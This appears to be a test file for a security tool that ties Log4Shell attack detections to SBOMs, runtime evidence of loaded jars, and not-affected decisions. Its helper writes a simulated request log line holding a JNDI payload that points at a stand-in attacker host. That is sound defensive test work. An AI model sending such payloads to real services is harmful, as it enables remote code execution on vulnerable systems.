// Exploit evidence on a real store: one attack against services that have what it aims at, lack it, or are not known.
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { fakeClock, hourMs, minuteMs } from "../../kernel/clock.ts";
import { silentLog } from "../../kernel/log.ts";
import { openApp } from "../open.ts";
import type { OpenApp } from "../open.ts";
import { readSettings } from "../settings.ts";

const startAt = Date.UTC(2026, 10, 1, 12);
const clock = fakeClock(startAt);
const log4j = "pkg:maven/org.apache.logging.log4j/log4j-core@2.14.1";
const fixed = "pkg:maven/org.apache.logging.log4j/log4j-core@2.17.1";
const other = "pkg:maven/org.example/web@1.0.0";
let app: OpenApp;
let dir: string;

const sbomOf = (...purls: readonly string[]): string => JSON.stringify({ bomFormat: "CycloneDX", specVersion: "1.6", version: 1, components: purls.map((purl) => ({ type: "library", name: purl.slice(purl.lastIndexOf("/") + 1, purl.lastIndexOf("@")), version: purl.slice(purl.lastIndexOf("@") + 1), purl })) });
async function* chunksOf(text: string): AsyncGenerator<Uint8Array> { yield Buffer.from(text); }
const digestOf = (letter: string): string => `sha256:${letter.repeat(64)}`;

async function release(service: string, digest: string, ...purls: readonly string[]): Promise<void> {
  if (purls.length > 0) await app.recordSbom(app.org, { service, version: "2.4.0", digest, owner: "payments", chunks: chunksOf(sbomOf(...purls)) }, "test");
  await app.recordDeployment(app.org, { service, version: "2.4.0", endpoint: `eks/${service}`, environment: "prod", exposure: "internet", digest, owner: "payments" }, "test");
}

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), "aftwatch-evidence-"));
  app = await openApp(readSettings({}, { data: join(dir, "data"), feeds: "none", host: "off" }, dir), { clock, log: silentLog });
  await app.steps.loadStarter();
  await release("pay-loaded", digestOf("a"), log4j, other);
  await release("pay-present", digestOf("b"), log4j);
  await release("pay-lacks", digestOf("c"), other);
  await release("pay-fixed", digestOf("d"), fixed);
  await release("pay-dark", digestOf("e"));
  await release("pay-idle", digestOf("f"), log4j, other);
  await release("pay-vex", digestOf("1"), log4j);
  for (const vulnerability of ["CVE-2021-44228", "CVE-2021-45046"]) await app.decide(app.org, { vulnerability, service: "pay-vex", kind: "not-affected", justification: "vulnerable_code_not_in_execute_path", reason: "lookups are off" }, "person:ana");
});
afterAll(async () => { await app.close(); rmSync(dir, { recursive: true, force: true }); });

let sent = 0;
/** The same request line, of the container with this image. */
async function attack(digest: string | undefined, more: { labels?: string; address?: string } = {}) {
  const body = `${more.address ?? "203.0.113.9"} - - [${new Date(clock.now()).toUTCString().replace(/^\w+, (\d+) (\w+) (\d+) ([\d:]+) GMT$/, "$1/$2/$3:$4")} +0000] "GET /?q=\${jndi:ldap://evil.example/a} HTTP/1.1" 200 612 "-" "curl/8.0"`;
  const attributes = [...(digest === undefined ? [] : [["container.image.id", digest]]), ["service.name", more.labels ?? "x"], ["k8s.deployment.name", more.labels ?? "x"]].map(([key, stringValue]) => ({ key, value: { stringValue } }));
  const record = { resourceLogs: [{ resource: { attributes }, scopeLogs: [{ scope: {}, logRecords: [{ timeUnixNano: `${clock.now()}000000`, body: { stringValue: body }, attributes: [{ key: "seq", value: { stringValue: String(sent++) } }] }] }] }] };
  const receipt = await app.runtime.receive(app.org, { decoder: "otlp-logs", source: "test", chunks: chunksOf(JSON.stringify(record)), host: undefined, settings: {}, isCanary: false });
  const { items } = await app.runtime.detections(app.org, { tag: "cve.2021-44228" } as never, { limit: 200, after: undefined });
  return { receipt, found: items.filter(({ placement }) => placement.workload === (more.labels ?? "x")).toSorted((a, b) => b.lastAt - a.lastAt)[0] };
}

const report = (digest: string, purls: readonly string[], complete: boolean) =>
  app.runtime.loaded.record(app.org, { digest, host: "node-1", components: purls.map((purl) => ({ purl, how: "open" as const, path: `/app/lib/${purl.slice(purl.lastIndexOf("/") + 1).replace("@", "-")}.jar` })), complete }, "test");

describe("app/runtime/evidence", () => {
  it("the jar is loaded: confirmed, critical, and the sentence says why", async () => {
    await report(digestOf("a"), [log4j], false);
    const { found } = await attack(digestOf("a"), { labels: "pay-loaded" });
    expect(found?.placement).toMatchObject({ joinedBy: "digest", service: "pay-loaded", version: "2.4.0", owner: "payments" });
    expect(found).toMatchObject({ level: "critical", evidence: { state: "confirmed", vulnerability: "CVE-2021-44228", component: log4j } });
    expect(found?.evidence.because).toMatch(/^pay-loaded 2\.4\.0 runs log4j-core 2\.14\.1 \(CVE-2021-44228, CVSS \d+(?:\.\d)?, in KEV; also CVE-2021-45046\) and the jar is open in the process \(\/app\/lib\/log4j-core-2\.14\.1\.jar\) on node-1, seen at 2026-11-01T12:00:00Z$/);
    expect(found?.why.sentences.at(-1)).toMatch(/^raised from \w+ to critical: pay-loaded 2\.4\.0 runs|^critical: /);
  });

  it("it is there and nobody knows whether it is loaded: present, at least high", async () => {
    const { found } = await attack(digestOf("b"), { labels: "pay-present" });
    expect(found).toMatchObject({ evidence: { state: "present", component: log4j, because: expect.stringContaining("nobody knows whether it is loaded") as string } });
    expect(["high", "critical"]).toContain(found?.level);
  });

  it("the release lacks it: lowered by two, with the SBOM that says so", async () => {
    const { found } = await attack(digestOf("c"), { labels: "pay-lacks" });
    expect([found?.ruleLevel, found?.level]).toEqual(["high", "low"]);
    expect(found?.evidence).toMatchObject({ state: "lowered", because: expect.stringMatching(/^pay-lacks 2\.4\.0 does not have CVE-2021-44228 or CVE-2021-45046: its SBOM of 2026-11-01 with 1 components holds no .*log4j-core/) as string });
    expect(found?.why.sentences.at(-1)).toMatch(/^lowered from high to low: /);
  });

  it("a version that is not affected is named", async () => {
    const { found } = await attack(digestOf("d"), { labels: "pay-fixed" });
    expect(found?.evidence).toMatchObject({ state: "lowered", because: expect.stringContaining("holds log4j-core 2.17.1, which is not affected") as string });
  });

  it("without an SBOM nobody knows, and the rule's level stands", async () => {
    const { found } = await attack(digestOf("e"), { labels: "pay-dark" });
    expect([found?.evidence.state, found?.level === found?.ruleLevel, found?.evidence.because]).toEqual(["unknown", true, "nobody knows whether pay-dark 2.4.0 has CVE-2021-44228 or CVE-2021-45046: no SBOM of it was received"]);
  });

  it("a complete list without it: lowered by one, since it may be loaded yet; a day later nobody knows", async () => {
    await report(digestOf("f"), [other], true);
    const { found } = await attack(digestOf("f"), { labels: "pay-idle" });
    expect([found?.ruleLevel, found?.level, found?.evidence.state, found?.evidence.because]).toEqual(["high", "medium", "lowered", expect.stringContaining("it is not loaded: node-1 listed all 1 components in use")]);
    clock.advance(25 * hourMs);
    expect((await attack(digestOf("f"), { labels: "pay-idle" })).found?.evidence.state).toBe("present");
  });

  it("a decision that it is not affected lowers it, with the decision", async () => {
    const { found } = await attack(digestOf("1"), { labels: "pay-vex" });
    expect([found?.level, found?.evidence.state, found?.evidence.because]).toEqual(["low", "lowered", expect.stringContaining("person:ana decided that it is not affected (vulnerable code not in execute path: lookups are off)")]);
  });

  it("of several affected versions the loaded one is named", async () => {
    const older = log4j.replace("2.14.1", "2.13.0");
    await release("pay-two", digestOf("3"), log4j, older);
    await report(digestOf("3"), [older], false);
    expect((await attack(digestOf("3"), { labels: "pay-two" })).found?.evidence).toMatchObject({ state: "confirmed", component: older });
    await report(digestOf("3"), [log4j], false);
    expect((await attack(digestOf("3"), { labels: "pay-two", address: "203.0.113.78" })).found?.evidence).toMatchObject({ state: "confirmed" });
  });

  it("a label that names another service never wins over the digest", async () => {
    const { found } = await attack(digestOf("c"), { labels: "pay-loaded", address: "203.0.113.77" });
    expect([found?.placement.service, found?.placement.joinedBy, found?.evidence.state]).toEqual(["pay-lacks", "digest", "lowered"]);
  });

  it("nobody knows what runs there: unknown", async () => {
    const { found } = await attack(undefined, { labels: "stranger" });
    expect([found?.placement.joinedBy, found?.evidence.state]).toEqual(["nothing", "unknown"]);
  });

  it("each of the two findings is told once an hour, whoever attacks", async () => {
    const told = async () => (await app.ledger.list(app.org, { kind: "finding.attacked", subject: undefined }, { limit: 50, after: undefined })).items.filter(({ body }) => (body as { workload?: string }).workload === "pay-present").length;
    const before = await told();
    clock.advance(2 * hourMs);
    await attack(digestOf("b"), { labels: "pay-present", address: "203.0.113.10" });
    await attack(digestOf("b"), { labels: "pay-present", address: "203.0.113.11" });
    expect([before, await told()]).toEqual([2, 4]);
  });

  it("a deployment that came a moment ago is joined, and one that ended is not", async () => {
    clock.advance(minuteMs);
    await release("pay-new", digestOf("2"), log4j);
    expect((await attack(digestOf("2"), { labels: "pay-new" })).found?.placement.service).toBe("pay-new");
    clock.advance(minuteMs);
    await app.recordDeployment(app.org, { service: "pay-new", endpoint: "eks/pay-new", kind: "ended" }, "test");
    expect((await attack(digestOf("2"), { labels: "pay-new-2" })).found?.placement.joinedBy).toBe("nothing");
  });

  it("an event that sees the jar loaded is enough, and the components of a detection say so", async () => {
    clock.advance(2 * hourMs);
    const loader = { process_loader: { process: { exec_id: "x", pid: 7, binary: "/usr/bin/java", arguments: "", start_time: new Date(clock.now()).toISOString(), pod: { namespace: "pay", name: "pay-present-0", container: { id: "c1", name: "pay-present", image: { id: `r/pay-present@${digestOf("b")}`, name: "r/pay-present" } } } }, path: "/app/lib/log4j-core-2.14.1.jar" }, node_name: "n", time: new Date(clock.now()).toISOString() };
    await app.runtime.receive(app.org, { decoder: "tetragon", source: "t", chunks: chunksOf(JSON.stringify(loader)), host: undefined, settings: {}, isCanary: false });
    const { found } = await attack(digestOf("b"), { labels: "pay-present", address: "203.0.113.12" });
    expect([found?.evidence.state, found?.evidence.because]).toEqual(["confirmed", expect.stringContaining("an event saw /app/lib/log4j-core-2.14.1.jar loaded")]);
    const whole = await app.runtime.find(app.org, found?.detectionId ?? "");
    expect(whole?.components).toContainEqual(expect.objectContaining({ purl: log4j, vulnerability: "CVE-2021-44228", loaded: true }));
  });
});
